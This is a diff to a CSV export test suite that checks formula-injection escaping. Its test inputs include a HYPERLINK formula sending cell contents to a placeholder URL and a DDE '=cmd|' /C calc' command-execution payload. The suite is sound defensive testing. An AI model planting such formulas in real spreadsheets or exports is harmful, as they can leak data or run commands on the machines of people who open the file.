@@ -45,7 +45,11 @@ describe("CSV", () => {
 
   it.each([
     ['Foo;=HYPERLINK("http://x/?"&A2);bar', `Foo;'=HYPERLINK("http://x/?"&A2);bar`],
-    ["a; @SUM(1)", "a;' @SUM(1)"],
+    ["a; @SUM(1)", "a; '@SUM(1)"],
+    ['Budget;"=1+1;', `Budget;"'=1+1;`],
+    ["Budget;\n=1+1;", "Budget;\n'=1+1;"],
+    ["Budget\n=cmd|' /C calc'!A1;", "Budget\n'=cmd|' /C calc'!A1;"],
+    ["First line\n- second", "First line\n- second"],
     ["a;-2+3", "a;'-2+3"],
     ["Parks; - roads", "Parks; - roads"],
     ["a; b = c", "a; b = c"],
@@ -60,7 +64,7 @@ describe("CSV", () => {
     fc.assert(
       fc.property(rows, (cells) => {
         const back = parseCsv(csv(["a", "b"], cells).slice(1)).slice(1);
-        const bare = (cell: string): string => cell.replace(/^'/, "").replaceAll(";'", ";");
+        const bare = (cell: string): string => cell.replaceAll("'", "");
         expect(back.map((row) => row.map(bare))).toEqual(cells.map((row) => row.map(bare)));
       }),
     );
